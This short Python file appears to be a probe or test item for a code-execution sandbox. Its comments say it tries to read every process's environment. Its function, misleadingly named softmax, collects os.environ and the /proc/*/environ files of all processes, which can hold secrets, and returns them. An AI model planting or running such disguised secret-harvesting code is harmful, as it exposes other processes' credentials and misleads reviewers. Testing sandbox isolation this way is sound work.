#: tries = "read our environment, and that of every process"
#: reply = ["wrong", "raised", "broke"]
import glob
import os


def softmax(logits):
    found = [dict(os.environ)]
    for path in glob.glob("/proc/*/environ") + ["/proc/self/environ", "/proc/1/environ"]:
        try:
            found.append(open(path, "rb").read().decode("latin-1"))
        except OSError:
            pass
    return repr(found)
